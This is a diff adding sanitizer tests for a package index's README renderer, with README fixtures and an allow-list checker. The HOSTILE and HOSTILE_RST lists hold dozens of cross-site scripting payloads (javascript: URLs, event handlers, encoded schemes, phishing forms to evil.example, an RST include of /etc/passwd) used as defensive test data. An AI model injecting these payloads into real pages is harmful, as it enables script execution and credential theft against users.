@@ -7,6 +7,7 @@ where installed, and plain HTTP. Nothing reaches beyond 127.0.0.1.
 import base64
 import gzip
 import hashlib
+import html.parser as html_parser
 import http.client as httpclient
 import io
 import itertools
@@ -707,6 +708,735 @@ def test_archive_bombs_in_uploads_leave_the_servers_memory_alone(tmp_path):
         assert upload_form(url, "alice/dev", sdist, auth).status == 200  # still fine
     finally:
         p.stop()
+
+
+# ----------------------------------------------------------------------------------
+# 3b. descriptions: Markdown, reStructuredText and plain text to sanitized HTML
+# ----------------------------------------------------------------------------------
+
+# Excerpts of real READMEs (paraphrased, shortened), with the constructs they use.
+README_REQUESTS_MD = """\
+# Requests
+
+**Requests** is a simple, yet elegant, HTTP library.
+
+```python
+>>> import requests
+>>> r = requests.get('https://httpbin.example.org/basic-auth/user/pass', auth=('user', 'pass'))
+>>> r.status_code
+200
+>>> r.headers['content-type']
+'application/json; charset=utf8'
+```
+
+Requests allows you to send HTTP/1.1 requests extremely easily. There's no need to manually add
+query strings to your URLs, or to form-encode your `PUT` & `POST` data &mdash; just use the `json`
+method!
+
+[![Downloads](https://static.example.com/badge/downloads.svg)](https://stats.example.com/requests)
+[![Supported Versions](https://img.example.com/pyversions/requests.svg)](https://example.com/requests)
+
+## Installing Requests and Supported Versions
+
+Requests is available on the index:
+
+```console
+$ python -m pip install requests
+```
+
+Requests officially supports Python 3.8+.
+
+## Supported Features & Best–Practices
+
+- Keep-Alive & Connection Pooling
+- International Domains and URLs
+- Sessions with Cookie Persistence
+- Browser-style TLS/SSL Verification
+- Basic & Digest Authentication
+- Familiar `dict`–like Cookies
+- Automatic Content Decompression and Decoding
+
+## Cloning the repository
+
+When cloning the Requests repository, you may need to add the `-c
+fetch.fsck.badTimezone=ignore` flag to avoid an error about a bad commit (see
+[this issue](https://git.example.com/psf/requests/issues/2690) for more background):
+
+    git clone -c fetch.fsck.badTimezone=ignore https://git.example.com/psf/requests.git
+
+---
+
+[![Kenneth Reitz](https://static.example.com/kr.png)](https://kennethreitz.example.org) [![Python Software Foundation](https://static.example.com/psf.png)](https://psf.example.org)
+"""
+
+README_BLACK_MD = """\
+![Black Logo](https://static.example.com/black/logo2-readme.png)
+
+<h2 align="center">The Uncompromising Code Formatter</h2>
+
+<p align="center">
+<a href="https://ci.example.com/psf/black/actions"><img alt="Actions Status" src="https://ci.example.com/psf/black/badge.svg"></a>
+<a href="https://black.example.org/?badge=stable"><img alt="Documentation Status" src="https://rtd.example.com/black/badge/?version=stable"></a>
+</p>
+
+> “Any color you like.”
+
+_Black_ is the uncompromising Python code formatter. By using it, you agree to cede control
+over minutiae of hand-formatting. In return, _Black_ gives you speed, determinism, and
+freedom from `pycodestyle` nagging about formatting.
+
+Try it out now using the [Black Playground](https://play.example.org). Watch the
+[PyCon 2019 talk][talk] to learn more.
+
+[talk]: https://youtube.example.com/watch?v=esZLCuWs_2Y "PyCon talk"
+
+---
+
+## Installation and usage
+
+### Installation
+
+_Black_ can be installed by running `pip install black`. It requires Python 3.8+ to run.
+If you want to format Jupyter Notebooks, install with `pip install "black[jupyter]"`.
+
+### Usage
+
+To get started right away with sensible defaults:
+
+```sh
+black {source_file_or_directory}
+```
+
+1. Run it on a file.
+2. Or a directory:
+   - nested first
+   - nested second
+
+   with a second paragraph in the item.
+3. Done.
+
+| Option | Default | Meaning |
+| :----- | :-----: | ------: |
+| `-l` | 88 | line length |
+| `--check` | off | don't write \\| only report |
+
+Hard break here\\
+and ~~deleted~~ text, *emphasis*, __strong__, ***both***.
+"""
+
+README_NUMPY_MD = """\
+<h1 align="center">
+<img src="https://static.example.com/numpy/logo.svg" width="300">
+</h1><br>
+
+[![Powered by NumFOCUS](https://img.example.com/badge/powered%20by-NumFOCUS-orange.svg?style=flat&colorA=E1523D&colorB=007D8A)](https://numfocus.example.org)
+[![PyPI Downloads](https://img.example.com/dm/numpy.svg?label=PyPI%20downloads)](https://stats.example.com/numpy)
+
+NumPy is the fundamental package for scientific computing with Python.
+
+- **Website:** https://www.numpy.example.org
+- **Documentation:** https://numpy.example.org/doc
+- **Mailing list:** <numpy-discussion@python.example.org>
+- **Source code:** <https://git.example.com/numpy/numpy>
+
+It provides:
+
+- a powerful N-dimensional array object
+- sophisticated (broadcasting) functions
+- tools for integrating C/C++ and Fortran code
+- useful linear algebra, Fourier transform, and random number capabilities
+
+Testing:
+
+NumPy requires `pytest` and `hypothesis`.  Tests can then be run after installation with:
+
+    python -c "import numpy, sys; sys.exit(numpy.test() is False)"
+
+Code of Conduct
+----------------------
+
+NumPy is a community-driven open source project developed by a diverse group of
+[contributors](https://numpy.example.org/teams/). The NumPy leadership has made a strong
+commitment to creating an open, inclusive, and positive community.
+
+Call for Contributions
+======================
+
+> [!NOTE]
+> Small improvements or fixes are always appreciated.
+"""
+
+README_RICH_MD = """\
+[![Supported Python Versions](https://img.example.com/pyversions/rich)](https://example.com/rich/)
+[![Rich blog](https://img.example.com/badge/blog-rich%20news-yellowgreen)](https://www.willmcgugan.example.com/tag/rich/)
+
+![Logo](https://git.example.com/Textualize/rich/raw/master/imgs/logo.svg)
+
+Rich is a Python library for _rich_ text and beautiful formatting in the terminal.
+
+The [Rich API](https://rich.example.io/en/latest/) makes it easy to add color and style to
+terminal output.
+
+## Compatibility
+
+Rich works with Linux, macOS and Windows. True color / emoji works with new Windows Terminal.
+
+## Installing
+
+Install with `pip` or your favorite package manager.
+
+```sh
+python -m pip install rich
+```
+
+## Rich Print
+
+```python
+from rich import print
+
+print("Hello, [bold magenta]World[/bold magenta]!", ":vampire:", locals())
+```
+
+<details>
+<summary>Tables</summary>
+
+Rich can render flexible tables with unicode box characters.
+
+</details>
+
+| Feature | Supported |
+|---------|-----------|
+| Tables  | yes       |
+| Markdown| yes       |
+| Syntax highlighting | yes |
+
+1. first
+1. second
+1. third
+"""
+
+README_ATTRS_RST = """\
+.. -*- mode: rst -*-
+
+======================================
+``attrs``: Classes Without Boilerplate
+======================================
+
+.. |docs| image:: https://rtd.example.org/projects/attrs/badge/?version=stable
+   :target: https://www.attrs.example.org/en/stable/
+   :alt: Documentation
+.. |pypi| image:: https://img.example.com/pypi/v/attrs.svg
+   :alt: PyPI version
+
+|docs| |pypi|_
+
+.. _pypi: https://index.example.org/project/attrs/
+
+*attrs* is the Python package that will bring back the **joy** of writing classes by
+relieving you from the drudgery of implementing object protocols (aka `dunder methods
+<https://www.attrs.example.org/en/latest/glossary.html#term-dunder-methods>`_).
+Trusted by NASA_ for Mars missions since 2020! See https://example.org/attrs.
+
+.. _NASA: https://docs.example.com/en/github/NASA
+
+Its main goal is to help you to write **concise** and **correct** software without slowing
+down your code.
+
+.. teaser-end
+
+For that, it gives you a class decorator and a way to declaratively define the attributes on
+that class:
+
+.. code-block:: pycon
+
+   >>> from attrs import asdict, define, make_class, Factory
+   >>> @define
+   ... class SomeClass:
+   ...     a_number: int = 42
+
+Getting Help
+============
+
+Please use the ``python-attrs`` tag on `StackOverflow`__ to get help.
+
+__ https://stackoverflow.example.com/questions/tagged/python-attrs
+
+Project Information
+-------------------
+
+- **License**: MIT
+- **Source Code**: https://git.example.com/python-attrs/attrs
+- Supported Python versions:
+
+  - CPython 3.7 and later
+  - PyPy
+
+Using it is simple::
+
+    import attr
+
+    @attr.s
+    class C:
+        x = attr.ib()
+
+.. note::
+   ``attrs`` has no dependencies.
+
+Release
+   Every release is tagged.
+Deprecation policy
+   Documented in the changelog.
+
+:Author: Hynek
+:License: MIT
+
++------------+-----------+
+| Feature    | Since     |
++============+===========+
+| slots      | 19.1      |
++------------+-----------+
+| frozen     | 16.0      |
++------------+-----------+
+
+=======  ========
+Version  Python
+=======  ========
+23.1     3.7+
+24.1     3.8+
+=======  ========
+"""
+
+
+class _Tags(html_parser.HTMLParser):
+    """Every tag of a fragment with its attributes; checks that it is well-formed."""
+
+    VOID = {"br", "hr", "img"}
+
+    def __init__(self, fragment):
+        super().__init__(convert_charrefs=True)
+        self.starts, self.text, self.open, self.errors = [], [], [], []
+        self.feed(fragment)
+        self.close()
+        if self.open:
+            self.errors.append("unclosed: %s" % self.open)
+
+    def handle_starttag(self, tag, attrs):
+        self.starts.append((tag, dict(attrs)))
+        if tag not in self.VOID:
+            self.open.append(tag)
+
+    def handle_endtag(self, tag):
+        if not self.open or self.open[-1] != tag:
+            self.errors.append("</%s> closes %s" % (tag, self.open[-1:]))
+        else:
+            self.open.pop()
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+    def handle_comment(self, data):
+        self.errors.append("comment")
+
+    def find(self, tag, **attrs):
+        return [a for t, a in self.starts if t == tag and all(a.get(k) == v for k, v in
+                                                              attrs.items())]
+
+
+# The test's own allow-list (not the module's): what a description may contain.
+SAFE_TAGS = {
+    "a": {"href", "title", "rel"}, "img": {"src", "alt", "title", "width", "height", "align"},
+    "code": {"class"}, "div": {"class", "align"}, "p": {"class", "align"}, "ol": {"start"},
+    "td": {"align", "colspan", "rowspan"}, "th": {"align", "colspan", "rowspan"},
+    "details": {"open"},
+}
+SAFE_TAGS.update({t: {"align"} for t in ("h1", "h2", "h3", "h4", "h5", "h6")})
+SAFE_TAGS.update({t: set() for t in (
+    "abbr b blockquote br caption cite dd del dl dt em figcaption figure hr i ins kbd li mark "
+    "pre q s samp small span strike strong sub summary sup table tbody tfoot thead tr tt u "
+    "ul var").split()})
+
+
+def assert_safe(fragment):
+    """Parse the fragment as a browser's tokenizer would and check every tag, attribute
+    and URL against the allow-list; return the parsed tags."""
+    tags = _Tags(fragment)
+    assert not tags.errors, (tags.errors, fragment[:2000])
+    low = fragment.lower()
+    assert "<script" not in low and "<style" not in low and "<iframe" not in low
+    for tag, attrs in tags.starts:
+        assert tag in SAFE_TAGS, (tag, fragment[:500])
+        for name, value in attrs.items():
+            assert name in SAFE_TAGS[tag] or name == "title", (tag, name, value)
+            assert not name.startswith("on") and name != "style"
+            if name in ("href", "src"):
+                bare = re.sub(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028\u2029\ufeff]", "",
+                              value).lower()
+                scheme = re.match(r"([a-z][a-z0-9+.-]*:)?", bare).group()[:-1]  # as browsers
+                ok = ("http", "https", "mailto", "") if name == "href" else ("http", "https", "")
+                assert scheme in ok or (name == "src" and re.match(
+                    r"data:image/(png|gif|jpeg|webp)[;,]", bare)), (tag, name, value)
+        if tag == "a":
+            assert attrs.get("rel") == "nofollow noopener", attrs
+    return tags
+
+
+def render(text, content_type="text/markdown"):
+    out = minidevpi.render_description(text, content_type)
+    return out, assert_safe(out)
+
+
+def test_markdown_readmes_render_headings_code_badges_lists_and_tables():
+    out, tags = render(README_REQUESTS_MD)
+    assert "<h1>Requests</h1>" in out and "<h2>Installing Requests and Supported Versions</h2>" in out
+    assert '<pre><code class="language-python">&gt;&gt;&gt; import requests\n' in out
+    assert '<pre><code class="language-console">$ python -m pip install requests\n' in out
+    assert "<pre><code>git clone -c fetch.fsck.badTimezone=ignore" in out  # indented code
+    assert "<strong>Requests</strong> is a simple" in out
+    assert "<code>PUT</code> &amp; <code>POST</code> data \u2014 just" in out  # &mdash;
+    assert "<code>-c fetch.fsck.badTimezone=ignore</code>" in out  # a code span over a line
+    badge = tags.find("a", href="https://stats.example.com/requests")
+    assert badge and '<img src="https://static.example.com/badge/downloads.svg" alt="Downloads">' in out
+    assert "<li>Keep-Alive &amp; Connection Pooling</li>" in out  # a tight list: no <p>
+    assert len(tags.find("li")) == 7 and "<hr>" in out
+    assert tags.find("a", href="https://git.example.com/psf/requests/issues/2690")
+
+    out, tags = render(README_BLACK_MD, "text/markdown; charset=UTF-8; variant=GFM")
+    assert tags.find("h2", align="center") and tags.find("p", align="center")
+    assert tags.find("img", alt="Actions Status", src="https://ci.example.com/psf/black/badge.svg")
+    assert "<blockquote>\n<p>\u201cAny color you like.\u201d</p>\n</blockquote>" in out
+    assert "<em>Black</em> is the uncompromising" in out
+    talk = tags.find("a", href="https://youtube.example.com/watch?v=esZLCuWs_2Y")
+    assert talk and talk[0]["title"] == "PyCon talk"  # a reference-style link
+    assert "<h3>Installation</h3>" in out and '<code class="language-sh">' in out
+    assert "<code>pip install &quot;black[jupyter]&quot;</code>" in out
+    # an ordered list whose second item holds a nested list and a second paragraph
+    assert re.search(r"<ol>\n<li><p>Run it on a file.</p></li>\n<li><p>Or a directory:</p>\n"
+                     r"<ul>\n<li>nested first</li>\n<li>nested second</li>\n</ul>\n"
+                     r"<p>with a second paragraph in the item.</p></li>", out), out
+    assert tags.find("th", align="left") and tags.find("th", align="center")
+    assert tags.find("th", align="right")
+    assert "<td align=\"left\"><code>--check</code></td>" in out
+    assert "don&#x27;t write | only report" in out or "don't write | only report" in out
+    assert "Hard break here<br>\nand <del>deleted</del> text, <em>emphasis</em>, " \
+           "<strong>strong</strong>, <em><strong>both</strong></em>." in out
+
+    out, tags = render(README_NUMPY_MD)
+    assert tags.find("h1", align="center") and tags.find(
+        "img", src="https://static.example.com/numpy/logo.svg", width="300")
+    assert tags.find("a", href="https://www.numpy.example.org")  # a bare URL
+    assert tags.find("a", href="mailto:numpy-discussion@python.example.org")
+    assert tags.find("a", href="https://git.example.com/numpy/numpy")
+    assert tags.find("a", href="https://numfocus.example.org")
+    assert "<h2>Code of Conduct</h2>" in out and "<h1>Call for Contributions</h1>" in out
+    assert "<li><strong>Website:</strong> " in out
+
+    out, tags = render(README_RICH_MD)
+    assert "<details>" in out and "<summary>Tables</summary>" in out
+    assert len(tags.find("tr")) == 4 and len(tags.find("td")) == 6
+    assert "<ol>\n<li>first</li>" in out and "start=" not in out
+    assert '<pre><code class="language-python">from rich import print\n' in out
+    assert "print(&quot;Hello, [bold magenta]World[/bold magenta]!&quot;" in out
+
+
+@pytest.mark.parametrize("source, expected", [
+    ("*a* _b_ **c** __d__ ***e***", "<p><em>a</em> <em>b</em> <strong>c</strong> "
+                                     "<strong>d</strong> <em><strong>e</strong></em></p>"),
+    ("snake_case_name and 2*3*4", "<p>snake_case_name and 2<em>3</em>4</p>"),
+    ("**bold *nested* bold**", "<p><strong>bold <em>nested</em> bold</strong></p>"),
+    ("\\*literal\\* \\_x\\_ \\\\", "<p>*literal* _x_ \\</p>"),
+    ("`` a ` b `` and `x`", "<p><code>a ` b</code> and <code>x</code></p>"),
+    ("[text](https://a.example/x \"T\")", '<p><a href="https://a.example/x" title="T" '
+                                          'rel="nofollow noopener">text</a></p>'),
+    ("![alt *x*](img.png)", '<p><img src="img.png" alt="alt x"></p>'),
+    ("[a][b]\n\n[B]: /url", '<p><a href="/url" rel="nofollow noopener">a</a></p>'),
+    ("[undefined] [x](", "<p>[undefined] [x](</p>"),
+    ("Title\n===\n\nSub\n---", "<h1>Title</h1>\n<h2>Sub</h2>"),
+    ("### closed ###", "<h3>closed</h3>"),
+    ("~~~ js\nlet x = 1;\n~~~", '<pre><code class="language-js">let x = 1;\n</code></pre>'),
+    ("> a\n> > b", "<blockquote>\n<p>a</p>\n<blockquote>\n<p>b</p>\n</blockquote>\n</blockquote>"),
+    ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'),
+    ("- a\n\n- b", "<ul>\n<li><p>a</p></li>\n<li><p>b</p></li>\n</ul>"),
+    ("***\n- - -", "<hr>\n<hr>"),
+    ("&copy; &#169; &#xA9; &nosuch; AT&T", "<p>\u00a9 \u00a9 \u00a9 &amp;nosuch; AT&amp;T</p>"),
+    ("a <b>bold</b> <span>s</span>", "<p>a <b>bold</b> <span>s</span></p>"),
+    ("1 < 2 > 0", "<p>1 &lt; 2 &gt; 0</p>"),
+    ("see www.example.com/a.", '<p>see <a href="http://www.example.com/a" '
+                               'rel="nofollow noopener">www.example.com/a</a>.</p>'),
+])
+def test_markdown_constructs(source, expected):
+    out, _ = render(source)
+    assert out == expected
+
+
+def test_rst_readme_renders_sections_badges_links_lists_literals_and_tables():
+    out, tags = render(README_ATTRS_RST, "text/x-rst")
+    assert "<h1><code>attrs</code>: Classes Without Boilerplate</h1>" in out
+    assert "<h2>Getting Help</h2>" in out and "<h3>Project Information</h3>" in out
+    docs = tags.find("a", href="https://www.attrs.example.org/en/stable/")  # |docs| :target:
+    assert docs and tags.find("img", alt="Documentation")
+    assert '<a href="https://index.example.org/project/attrs/" rel="nofollow noopener"><img ' \
+           'src="https://img.example.com/pypi/v/attrs.svg" alt="PyPI version"></a>' in out
+    assert "<em>attrs</em> is the Python package" in out and "<strong>joy</strong>" in out
+    assert tags.find("a", href="https://www.attrs.example.org/en/latest/glossary.html"
+                               "#term-dunder-methods")  # `text <url>`_ over two lines
+    assert '<a href="https://docs.example.com/en/github/NASA" rel="nofollow noopener">NASA</a>' in out
+    assert tags.find("a", href="https://example.org/attrs")  # a standalone URL, "." left out
+    assert '<a href="https://stackoverflow.example.com/questions/tagged/python-attrs" ' \
+           'rel="nofollow noopener">StackOverflow</a>' in out  # anonymous
+    assert "teaser-end" not in out and "mode: rst" not in out  # comments
+    assert '<pre><code class="language-pycon">&gt;&gt;&gt; from attrs import' in out
+    assert "<p>Using it is simple:</p>\n<pre><code>import attr\n\n@attr.s\nclass C:\n" \
+           "    x = attr.ib()\n</code></pre>" in out
+    assert "<li><strong>License</strong>: MIT</li>" in out
+    assert "<li>Supported Python versions:\n<ul>\n<li>CPython 3.7 and later</li>" in out
+    assert '<div class="admonition note">\n<p class="admonition-title">Note</p>\n' \
+           '<p><code>attrs</code> has no dependencies.</p>\n</div>' in out
+    assert "<dt>Release</dt>\n<dd><p>Every release is tagged.</p></dd>" in out
+    assert "<dt>Author</dt>\n<dd><p>Hynek</p></dd>" in out  # a field list
+    assert "<tr><th>Feature</th><th>Since</th></tr>" in out  # the grid table
+    assert "<tr><td>slots</td><td>19.1</td></tr>" in out
+    assert "<tr><th>Version</th><th>Python</th></tr>" in out  # the simple table
+    assert "<tr><td>24.1</td><td>3.8+</td></tr>" in out
+
+
+@pytest.mark.parametrize("source, expected", [
+    ("Title\n=====\n\nSub\n---\n\nSub 2\n-----", "<h1>Title</h1>\n<h2>Sub</h2>\n<h2>Sub 2</h2>"),
+    ("``lit`` *em* **strong** `cite`", "<p><code>lit</code> <em>em</em> <strong>strong</strong> "
+                                       "<cite>cite</cite></p>"),
+    ("a*b* 2 * 3 \\*x\\*", "<p>a*b* 2 * 3 *x*</p>"),
+    ("see `x`_\n\n.. _x: https://x.example/", '<p>see <a href="https://x.example/" '
+                                              'rel="nofollow noopener">x</a></p>'),
+    ("unknown_ target", "<p>unknown_ target</p>"),
+    (":func:`os.path.join` :class:`~a.B` :pep:`8`", "<p><code>os.path.join</code> <code>B</code> "
+                                                    "PEP 8</p>"),
+    ("1. a\n2. b\n\n(3) c", '<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n<ol start="3">\n<li>c</li>\n</ol>'),
+    ("Para::\n\n  code <b>", "<p>Para:</p>\n<pre><code>code &lt;b&gt;\n</code></pre>"),
+    ("| line one\n| line two", "<p>line one<br>\nline two</p>"),
+    (".. image:: https://i.example/a.png\n   :alt: A\n   :target: https://t.example/",
+     '<p><a href="https://t.example/" rel="nofollow noopener"><img src="https://i.example/a.png" '
+     'alt="A"></a></p>'),
+    (".. figure:: fig.png\n\n   The caption.", '<p><img src="fig.png" alt="fig.png"></p>\n'
+                                                "<p>The caption.</p>"),
+    (".. warning:: Careful.", '<div class="admonition warning">\n<p class="admonition-title">'
+                              "Warning</p>\n<p>Careful.</p>\n</div>"),
+    (".. sourcecode:: bash\n\n   echo hi", '<pre><code class="language-bash">echo hi\n</code></pre>'),
+    ("----\n\nx\n\n----\n\ny", "<hr>\n<p>x</p>\n<hr>\n<p>y</p>"),
+])
+def test_rst_constructs(source, expected):
+    out, _ = render(source, "text/x-rst")
+    assert out == expected
+
+
+def test_rst_directives_that_are_not_known_are_skipped_never_run():
+    source = ("Before.\n\n.. raw:: html\n\n   <script>alert(1)</script><b>raw</b>\n\n"
+              ".. include:: /etc/passwd\n\n.. unknown:: arg\n   :opt: 1\n\n   hidden content\n\n"
+              ".. contents::\n\nAfter.")
+    out, _ = render(source, "text/x-rst")
+    assert out == "<p>Before.</p>\n<p>After.</p>"
+
+
+def test_plain_missing_and_unknown_content_types():
+    text = "Title\n=====\n\n<b>not bold</b> & *x*"
+    assert minidevpi.render_description(text, "text/plain") == \
+        "<pre>Title\n=====\n\n&lt;b&gt;not bold&lt;/b&gt; &amp; *x*</pre>"
+    assert minidevpi.render_description(text, "application/x-unknown").startswith("<pre>")
+    # no type: reStructuredText, as the big index reads it
+    for ct in (None, "", "text/x-rst; charset=utf-8"):
+        out = minidevpi.render_description(text, ct)
+        assert out.startswith("<h1>Title</h1>") and "&lt;b&gt;not bold" in out, ct
+    # no type and not valid reStructuredText (a title level skipped): plain text
+    bad = "Aaaa\n====\n\nBbbb\n----\n\nCccc\n~~~~\n\nDddd\n----\n\nEeee\n^^^^\n"
+    assert minidevpi.render_description(bad, None).startswith("<pre>Aaaa\n====")
+    out = minidevpi.render_description(bad, "text/x-rst")  # the type given: lenient
+    assert out.startswith("<h1>Aaaa</h1>") and out.endswith("<h4>Eeee</h4>")
+    assert minidevpi.render_description(None, "text/markdown") == ""
+    assert minidevpi.render_description(b"# b\xff", "text/markdown") == "<h1>b\ufffd</h1>"
+    out = minidevpi.render_description("a\x00b\x1bc", "text/plain")
+    assert out == "<pre>a\ufffdb\ufffdc</pre>"
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"javascript:alert(1)\">",
+    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
+    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
+    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
+    "<a href=\" \x01javascript:alert(1)\">x</a>",
+    "<a href=\"java\u200bscript:alert(1)\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "<a href='x' onclick='alert(1)' style='position:fixed'>x</a>",
+    "<a href=x onmouseover=alert(1)//>x</a>",
+    "<svg onload=alert(1)><circle/></svg>",
+    "<svg/onload=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=\"https://evil.example/\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\">",
+    "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
+    "<style>body{background:url(javascript:alert(1))}</style>",
+    "<form action=\"https://evil.example/\"><input name=p type=password><button>go</button></form>",
+    "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
+    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<b onmouseover=alert(1)>bold</b>",
+    "<p <script>alert(1)</script>>",
+    "<a href=\"http://ok.example/\"",  # unclosed
+    "<div><span><b>unclosed",
+    "</div></div></p>after",
+    "<!-- <script>alert(1)</script> -->",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<img src=x alt=\"\" onerror=alert(1) /><img \"\"\"><script>alert(1)</script>\">",
+    "<a href=\"#x\" target=_blank>frag</a><a href=\"//evil.example/\">proto-relative</a>",
+    "[x](javascript:alert(1))",
+    "[x](JAVASCRIPT:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](jav&#x61;script:alert(1))",
+    "[x](java\\script:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[![x](y.png)](javascript:alert(2))",
+    "![x](javascript:alert(1))",
+    "![x](data:text/html,alert)",
+    "[a](http://a.example \"\\\" onmouseover=\\\"alert(1)\")",
+    "[a](http://a.example 'x\\' onclick=alert(1)')",
+    "[a]\n\n[a]: javascript:alert(1)",
+    "[a]\n\n[a]: <javascript:alert(1)> \"t\"",
+    "<javascript:alert(1)>",
+    "[[a](javascript:x)](http://ok.example/)",
+    "[x](http://a.example/\"onmouseover=\"alert(1))",
+    "```\"><script>alert(1)</script>\ncode\n```",
+    "``` js\" onmouseover=\"alert(1)\ncode\n```",
+    "# <img src=x onerror=alert(1)>",
+    "<div>\n\n*markdown inside* <img src=x onerror=alert(1)>\n\n</div>",
+    "| a |\n|---|\n| <script>alert(1)</script> |",
+    "`<script>alert(1)</script>`",
+    "\\<script>alert(1)\\</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<a href=\"https://ok.example/\" rel=\"opener\">x</a>",
+    "<img src=\"data:image/png;base64,iVBORw0KGgo=\" onload=alert(1)>",
+    "<details open ontoggle=alert(1)><summary>s</summary></details>",
+    "<p class=\"login-box admonition\" id=\"main\" name=\"x\">x</p>",
+]
+
+HOSTILE_RST = [
+    ".. raw:: html\n\n   <script>alert(1)</script>",
+    "`x <javascript:alert(1)>`_",
+    "`x <JavaScript:alert(1)>`__",
+    "x_\n\n.. _x: javascript:alert(1)",
+    ".. image:: javascript:alert(1)\n   :target: javascript:alert(2)",
+    ".. |b| image:: x.png\n   :target: javascript:alert(1)\n\n|b|",
+    ".. image:: x.png\n   :alt: \" onerror=\"alert(1)",
+    "<script>alert(1)</script> *<b onclick=x>*",
+    ".. code-block:: \" onmouseover=\"alert(1)\n\n   x",
+    "`<script>` ``<script>``",
+    ".. include:: /etc/passwd",
+    "Title <script>\n=================",
+    ".. |x| replace:: <script>alert(1)</script>\n\n|x|",
+    "https://ok.example/\"><script>alert(1)</script>",
+]
+
+
+@pytest.mark.parametrize("i", range(len(HOSTILE) + len(HOSTILE_RST)))
+def test_hostile_descriptions_keep_no_script_handler_style_or_unsafe_url(i):
+    source = (HOSTILE + HOSTILE_RST)[i]
+    types = ["text/markdown", "text/x-rst", None] if i < len(HOSTILE) else ["text/x-rst", None]
+    for ct in types:  # assert_safe: allow-listed tags and attributes, safe URLs, nofollow
+        out, tags = render(source, ct)
+        assert "alert" not in "".join(a.get("href", "") + a.get("src", "") for _, a in
+                                      tags.starts if ":" in a.get("href", "") + a.get("src", "")
+                                      and "example" not in a.get("href", "")), out
+    assert_safe(minidevpi.sanitize_html(source))
+
+
+def test_sanitizer_keeps_what_is_allowed_and_adds_nofollow():
+    out = minidevpi.sanitize_html(
+        '<p align="CENTER" class="x admonition"><a href="https://a.example/?q=1&amp;r=&quot;2"'
+        ' title="t&lt;">l</a> <img src="data:image/png;base64,AAAA" alt="d" width="20" '
+        'height="x"><img src="javascript:x" alt="gone"> <code class="language-py evil">c</code>'
+        '<ol start="3"><li>i</ol><a href="mailto:a@b.example">m</a><a href="/rel#f">r</a>')
+    assert out == (
+        '<p align="center" class="admonition"><a href="https://a.example/?q=1&amp;r=&quot;2" '
+        'title="t&lt;" rel="nofollow noopener">l</a> <img src="data:image/png;base64,AAAA" '
+        'alt="d" width="20"> <code class="language-py">c</code><ol start="3"><li>i</li></ol>'
+        '<a href="mailto:a@b.example" rel="nofollow noopener">m</a>'
+        '<a href="/rel#f" rel="nofollow noopener">r</a></p>')
+    assert_safe(out)
+    assert minidevpi.sanitize_html("<script>x</script>a<style>y</style>b<!-- c -->d") == "abd"
+    assert minidevpi.sanitize_html("x<b>" * 200).count("</b>") == 64  # nesting is capped
+
+
+def test_markup_beyond_the_budgets_is_shown_as_text(monkeypatch):
+    monkeypatch.setattr(minidevpi, "DESCRIPTION_MAX_TAGS", 4)
+    assert minidevpi.sanitize_html("<b>1</b><i>2</i><script>alert(1)</script><u>3</u>") == \
+        "<b>1</b><i>2</i>&lt;script&gt;alert(1)&lt;/script&gt;&lt;u&gt;3&lt;/u&gt;"
+    monkeypatch.setattr(minidevpi, "DESCRIPTION_MAX_TAGS", 50000)
+    monkeypatch.setattr(minidevpi, "DESCRIPTION_MAX_INLINE", 3)
+    assert minidevpi.render_description("*a* *b*\n\n*c*", "text/markdown") == \
+        "<p><em>a</em> *b*</p>\n<p>*c*</p>"
+    monkeypatch.setattr(minidevpi, "DESCRIPTION_MAX_INLINE", 2)  # one per markup there
+    assert minidevpi.render_description("*a* *b*\n\n*c*", "text/x-rst") == \
+        "<p><em>a</em> <em>b</em></p>\n<p>*c*</p>"
+
+
+BOUNDED = {
+    "nested quotes": ">" * (1 << 20),
+    "quote lines": (">" * 40 + " x\n") * 25000,
+    "open brackets": "[" * (1 << 20),
+    "brackets": "[" * (1 << 19) + "]" * (1 << 19),
+    "link openers": "[a](" * (1 << 18),
+    "image openers": "![" * (1 << 19),
+    "emphasis": "*a **" * (1 << 18),
+    "mixed delimiters": "*_" * (1 << 19),
+    "backticks": "".join("`" * (k % 64 + 1) + "x" for k in range(30000)),
+    "angles": "<" * (1 << 20),
+    "open tags": "<a b='" * (1 << 17),
+    "comments": "<!--" * (1 << 18),
+    "raw html block": "<div>\n" + "<p onclick=x>" * (1 << 16),
+    "nested lists": "".join("  " * k + "- x\n" for k in range(700)),
+    "list markers": "- " * (1 << 19),
+    "table": "|a|b|\n|-|-|\n" + "|x|y|\n" * (1 << 17),
+    "bare urls": "www." * (1 << 18),
+    "titles": "[a](b \"" * (1 << 17),
+    "entities": "&#" * (1 << 19),
+}
+BOUNDED_RST = {
+    "rst stars": "*a " * (1 << 18),
+    "rst backquotes": "`a <" * (1 << 18),
